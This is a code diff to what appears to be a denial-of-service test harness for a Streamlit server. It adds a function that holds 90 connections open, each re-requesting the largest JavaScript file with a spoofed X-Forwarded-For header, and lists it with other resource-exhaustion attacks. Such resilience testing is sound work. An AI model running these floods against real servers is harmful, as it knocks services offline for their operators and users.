@@ -13,9 +13,11 @@ import socket
 import time
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager, suppress
+from pathlib import Path
 from urllib.parse import urlsplit
 
 import httpx
+from streamlit.file_util import get_static_dir
 from streamlit.proto.BackMsg_pb2 import BackMsg
 from websockets.exceptions import WebSocketException
 from websockets.sync.client import ClientConnection, connect
@@ -289,6 +291,33 @@ def joiners(url: str) -> None:
         time.sleep(0.05)
 
 
+def files(url: str) -> None:
+    """Ninety connections that ask for the largest file of the page, over and over."""
+    largest = max(
+        Path(get_static_dir(), "static", "js").glob("*.js"), key=lambda f: f.stat().st_size
+    )
+    asked = (
+        f"GET /static/js/{largest.name} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n"
+    )
+    size = largest.stat().st_size
+    selector = selectors.DefaultSelector()
+    left: dict[socket.socket, int] = {}
+    for _ in range(90):
+        connection = _plain(url)
+        connection.sendall(asked.encode())
+        selector.register(connection, selectors.EVENT_READ)
+        left[connection] = size
+    while True:
+        for key, _ in selector.select():
+            connection = next(c for c in left if c.fileno() == key.fd)
+            if not (read := len(connection.recv(1_000_000))):
+                return
+            left[connection] -= read
+            if left[connection] <= 0:
+                connection.sendall(asked.encode())
+                left[connection] += size
+
+
 def requests(url: str) -> None:
     """Fifty connections that ask for what needs no sign-in, over and over."""
     asked = [
@@ -377,6 +406,7 @@ ATTACKS: dict[str, tuple[Attack, ...]] = {
     "13,000 requests before an answer": (pipelined,),
     "32,000 marks on a letter": (marks,),
     "a text of joiners in 40 tabs": (joiners,),
+    "the largest file, 90 connections": (files,),
     "50 connections that ask on and on": (requests,),
     "a header without an end": (endless_header,),
     "handshakes that hang": (hung_handshakes,),
